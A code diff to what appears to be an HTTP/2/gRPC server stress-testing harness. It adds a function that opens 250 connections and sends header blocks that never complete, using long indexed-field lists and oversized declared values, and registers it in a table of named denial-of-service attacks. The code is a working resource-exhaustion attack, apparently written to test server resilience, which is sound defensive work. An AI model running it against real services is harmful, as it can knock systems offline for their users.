@@ -87,6 +87,29 @@ def open_calls(address, fields):
         stream.close()
 
 
+def unfinished_headers(address):
+    """Header blocks that never end, from 250 connections: long lists of fields by reference, and long values."""
+    blocks = [
+        wire.head(SERVICE + "Get", *wire.GRPC) + b"\x40\x01a\x01b" + b"\xbe" * 1_900,
+        wire.head(SERVICE + "Get", *wire.GRPC) + b"\x40\x01a" + wire.integer(60_000, 7) + bytes(59_000),
+    ]
+    crowd = []
+    for number in range(250):
+        block = blocks[number % len(blocks)]
+        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
+        frames = [wire.frame(wire.CONTINUATION, 0, 1, piece) for piece in pieces[1:]]
+        try:
+            stream = wire.dial(address)
+            start = wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0)
+            stream.sendall(start + wire.frame(wire.HEADERS, 0, 1, pieces[0]) + b"".join(frames))
+            crowd.append(stream)
+        except OSError:
+            pass  # the server may turn it away
+    time.sleep(3)  # the blocks stay unfinished meanwhile, which is the attack
+    for stream in crowd:
+        stream.close()
+
+
 def announced(address, connections):
     """Large messages that are announced and not sent, beside pings."""
     crowd = [wire.Client(wire.dial(address)) for _ in range(connections)]
@@ -172,6 +195,7 @@ ATTACKS = {
     "batches of empty elements": batches,
     "25,000 open calls": lambda address: open_calls(address, 0),
     "25,000 open calls with 200 fields": lambda address: open_calls(address, 200),
+    "250 unfinished header blocks": unfinished_headers,
     "announced messages, 1 connection": lambda address: announced(address, 1),
     "announced messages, 8 connections": lambda address: announced(address, 8),
     "control frames": control_frames,
